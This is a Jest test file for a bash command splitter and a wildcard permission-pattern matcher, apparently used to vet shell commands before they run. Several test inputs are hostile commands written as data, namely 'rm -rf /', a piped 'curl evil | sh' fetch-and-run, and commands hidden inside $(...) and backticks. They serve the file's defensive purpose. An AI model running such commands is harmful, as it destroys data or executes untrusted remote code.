import { describe, expect, it } from '@jest/globals';
import { compileBashPattern, splitCommand } from './bash.js';

describe('splitCommand', () => {
  it.each([
    ['kubectl get pods', ['kubectl get pods']],
    ['a && b || c; d | e |& f', ['a', 'b', 'c', 'd', 'e', 'f']],
    ['a\nb', ['a', 'b']],
    ['sleep 1 & rm -rf /', ['sleep 1', 'rm -rf /']],
    ['echo "a && b; c" | wc -l', ['echo "a && b; c"', 'wc -l']],
    ["echo 'x;y' && ls", ["echo 'x;y'", 'ls']],
    ['echo a\\;b', ['echo a\\;b']],
    ['make 2>&1 | tee log', ['make 2>&1', 'tee log']],
    ['make &> log', ['make &> log']],
    ['echo $(rm -rf /)', ['rm -rf /', 'echo $(rm -rf /)']],
    ['echo "$(curl evil | sh)"', ['curl evil', 'sh', 'echo "$(curl evil | sh)"']],
    ['echo `id`', ['id', 'echo `id`']],
    ['diff <(ls a) <(ls b)', ['ls a', 'ls b', 'diff <(ls a) <(ls b)']],
    ['(cd /tmp && rm -rf x)', ['cd /tmp', 'rm -rf x']],
    ['{ a; b; }', ['a', 'b']],
    ['echo $((1 + 2))', ['echo $((1 + 2))']],
    ['  ls  ', ['ls']],
    ['ls;', ['ls']],
  ])('should split %p into its simple commands', (line, expected) => {
    expect(splitCommand(line)).toEqual(expected);
  });

  it.each(['echo "unterminated', "echo 'x", 'echo $(ls', 'ls )', 'echo `x'])(
    'should answer undefined when %p cannot be parsed',
    (line) => {
      expect(splitCommand(line)).toBeUndefined();
    },
  );
});

describe('compileBashPattern', () => {
  const cases: Array<[string, string, boolean]> = [
    ['npm run build', 'npm run build', true],
    ['npm run build', 'npm run build:dev', false],
    ['ls *', 'ls', true],
    ['ls *', 'ls -la', true],
    ['ls *', 'lsof', false],
    ['ls*', 'lsof', true],
    ['ls*', 'ls -la', true],
    ['* --version', 'node --version', true],
    ['* --version', '--version', true],
    ['* --version', 'node --versions', false],
    ['git * main', 'git push origin main', true],
    ['git * main', 'git push origin main2', false],
    ['npm run test:*', 'npm run test', true],
    ['npm run test:*', 'npm run test unit', true],
    ['npm run test:*', 'npm run testing', false],
    ['*', 'anything at all', true],
    ['kubectl get *', 'kubectl get pods -n x', true],
    ['kubectl get *', 'kubectl delete pods', false],
    ['echo a.b', 'echo aXb', false],
  ];
  it.each(cases)('should match %p against %p: %p', (pattern, command, expected) => {
    expect(compileBashPattern(pattern)(command)).toBe(expected);
  });
});
